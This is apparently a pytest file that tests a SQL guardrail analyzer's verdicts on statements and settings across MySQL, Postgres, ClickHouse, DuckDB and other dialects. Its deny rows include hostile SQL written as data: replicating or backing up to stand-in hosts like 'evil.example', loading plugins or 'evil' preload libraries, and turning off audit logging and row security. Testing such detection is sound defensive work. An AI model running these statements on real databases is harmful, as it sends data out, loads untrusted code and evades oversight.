"""The SQL analyzer's registries (issue 11): statements, keyword commands, settings, functions
and predicates are either modelled or `unknown`, never a silent allow.

Rows: (dialect, sql, verdict, intent that must be named). `block` accepts deny or review; an
intent of "" names none. Benign look-alikes sit next to what they imitate.
"""

from __future__ import annotations

import pytest

from guardrails_core import Actor, Context, check


def verdict_of(sql: str, dialect: str) -> tuple[str, set[str], list[str]]:
    decision = check(
        sql,
        kind="sql",
        dialect=dialect,
        context=Context(actor=Actor(kind="service")),
        analysis_cache=None,
        decision_cache=None,
    )
    return (
        str(decision.decision),
        {str(intent) for intent in decision.intents},
        [reason.message for reason in decision.reasons],
    )


def assert_row(dialect: str, sql: str, verdict: str, intent: str) -> None:
    got, intents, reasons = verdict_of(sql, dialect)
    if verdict == "block":
        assert got in ("deny", "review"), (got, intents, reasons)
    else:
        assert got == verdict, (got, intents, reasons)
    assert not intent or intent in intents, (intents, reasons)


STATEMENTS = [
    # parsed statement types: each one modelled (KILL parses as its own type)
    ("mysql", "KILL QUERY 17", "deny", "host_access"),
    ("mysql", "KILL CONNECTION 17", "deny", "host_access"),
    ("postgres", "KILL 42", "deny", "host_access"),
    ("redshift", "CANCEL 12345", "deny", "host_access"),
    ("clickhouse", "KILL QUERY WHERE user = 'etl'", "deny", "host_access"),
    # keyword commands: known-safe maintenance and metadata, read even when sqlglot cannot parse
    ("mysql", "CHECKSUM TABLE orders", "allow", ""),
    ("mysql", "CHECK TABLE orders", "allow", ""),
    ("mysql", "FLUSH TABLES WITH READ LOCK", "allow", ""),
    ("mysql", "XA START 'x'", "allow", ""),
    ("mysql", "CACHE INDEX orders IN hot_cache", "allow", ""),
    ("mysql", "HANDLER orders READ FIRST", "allow", "read"),
    ("postgres", "NOTIFY jobs, 'done'", "allow", ""),
    ("clickhouse", "EXISTS TABLE orders", "allow", "read"),
    ("clickhouse", "CHECK TABLE orders", "allow", ""),
    ("clickhouse", "SYSTEM FLUSH LOGS", "allow", ""),
    ("clickhouse", "SYSTEM STOP MERGES orders", "allow", ""),
    ("tsql", "REVERT", "allow", ""),
    # ... known dangerous
    ("mysql", "INSTALL PLUGIN foo SONAME 'foo.so'", "deny", "host_access"),
    ("mysql", "UNINSTALL PLUGIN audit_log", "deny", "host_access"),
    ("mysql", "CHANGE REPLICATION SOURCE TO SOURCE_HOST='evil.example'", "deny", "host_access"),
    ("mysql", "CLONE INSTANCE FROM 'root'@'evil':3306 IDENTIFIED BY 'x'", "deny", "host_access"),
    ("mysql", "RESTART", "deny", "host_access"),
    ("clickhouse", "SYSTEM SHUTDOWN", "deny", "host_access"),
    ("clickhouse", "BACKUP TABLE orders TO S3('https://evil/b', 'k', 's')", "deny", "export"),
    ("clickhouse", "CREATE ROW POLICY p ON orders USING 1 TO ALL", "deny", "privilege"),
    ("clickhouse", "CREATE SETTINGS PROFILE p SETTINGS readonly = 0 TO etl", "deny", "privilege"),
    ("duckdb", "EXPORT DATABASE '/tmp/dump'", "deny", "export"),
    ("postgres", "SECURITY LABEL ON TABLE orders IS 'x'", "deny", "privilege"),
    ("postgres", "CREATE EVENT TRIGGER t ON ddl_command_start EXECUTE FUNCTION f()", "block", ""),
    ("redshift", "COPY orders FROM 's3://b/manifest' IAM_ROLE 'arn' SSH", "deny", "host_access"),
    # ... and a family whose sub-commands are not all known: unknown, reviewed
    ("clickhouse", "SYSTEM FROBNICATE EVERYTHING", "review", "unknown"),
    ("mysql", "REPAIR TABLE orders USE_FRM", "review", "unknown"),
    ("postgres", "FROBNICATE TABLE orders", "deny", "unparseable"),
]


@pytest.mark.parametrize(("dialect", "sql", "verdict", "intent"), STATEMENTS)
def test_statements_are_modelled_or_unknown(
    dialect: str, sql: str, verdict: str, intent: str
) -> None:
    assert_row(dialect, sql, verdict, intent)


SETTINGS = [
    # harmless tuning, formatting and session scope
    ("postgres", "SET statement_timeout = '5min'", "allow", ""),
    ("postgres", "SET search_path TO staging, public", "allow", ""),
    ("postgres", "SET LOCAL work_mem = '256MB'", "allow", ""),
    ("postgres", "SET TIME ZONE 'UTC'", "allow", ""),
    ("postgres", "SELECT set_config('search_path', 'staging', false)", "allow", ""),
    ("mysql", "SET NAMES utf8mb4", "allow", ""),
    ("mysql", "SET @x = 5, max_execution_time = 1000", "allow", ""),
    ("mysql", "SET foreign_key_checks = 1", "allow", ""),
    ("tsql", "SET NOCOUNT ON", "allow", ""),
    ("tsql", "SET IDENTITY_INSERT dbo.orders ON", "allow", ""),
    ("spark", "SET spark.sql.shuffle.partitions = 200", "allow", ""),
    ("duckdb", "SET threads = 4", "allow", ""),
    ("clickhouse", "SET max_threads = 8", "allow", ""),
    ("clickhouse", "SET readonly = 1", "allow", ""),
    ("bigquery", "SET n = (SELECT COUNT(*) FROM ds.orders)", "allow", "read"),
    ("snowflake", "SET cutoff = '2024-01-01'", "allow", ""),
    # identity, integrity, logging and audit, read-only mode, host reach, credentials
    ("postgres", "SET row_security = off", "deny", "privilege"),
    ("postgres", "SET allow_system_table_mods = on", "deny", "privilege"),
    ("postgres", "SET log_statement = 'none'", "deny", "privilege"),
    ("postgres", "SET pgaudit.log = 'none'", "deny", "privilege"),
    ("postgres", "SET default_transaction_read_only = off", "deny", "privilege"),
    ("postgres", "SELECT set_config('log_statement', 'none', false)", "deny", "privilege"),
    ("postgres", "SELECT set_config('session_authorization', 'postgres', false)", "deny", ""),
    ("postgres", "ALTER SYSTEM SET log_statement = 'none'", "deny", "privilege"),
    ("postgres", "ALTER DATABASE prod SET log_statement = 'none'", "deny", "privilege"),
    ("postgres", "ALTER ROLE etl SET session_preload_libraries = 'evil'", "deny", "host_access"),
    ("mysql", "SET @@GLOBAL.secure_file_priv = ''", "deny", "host_access"),
    ("mysql", "SET SESSION sql_log_bin = 0", "deny", "privilege"),
    ("mysql", "SET foreign_key_checks = 0", "deny", "privilege"),
    ("duckdb", "SET enable_external_access = true", "deny", "host_access"),
    ("duckdb", "SET s3_secret_access_key = 'x'", "deny", "privilege"),
    ("clickhouse", "SET readonly = 0", "deny", "privilege"),
    ("clickhouse", "SET allow_ddl = 1", "deny", "privilege"),
    ("spark", "SET spark.sql.sources.partitionOverwriteMode = static", "review", "unknown"),
    # a setting in no row: its effect is not known
    ("postgres", "SET some_extension.magic = 'on'", "review", "unknown"),
    ("mysql", "SET default_storage_engine = BLACKHOLE", "review", "unknown"),
    ("postgres", "SELECT set_config(name, 'x', false) FROM settings_to_apply", "review", "unknown"),
]


@pytest.mark.parametrize(("dialect", "sql", "verdict", "intent"), SETTINGS)
def test_settings_are_risky_harmless_or_unknown(
    dialect: str, sql: str, verdict: str, intent: str
) -> None:
    assert_row(dialect, sql, verdict, intent)
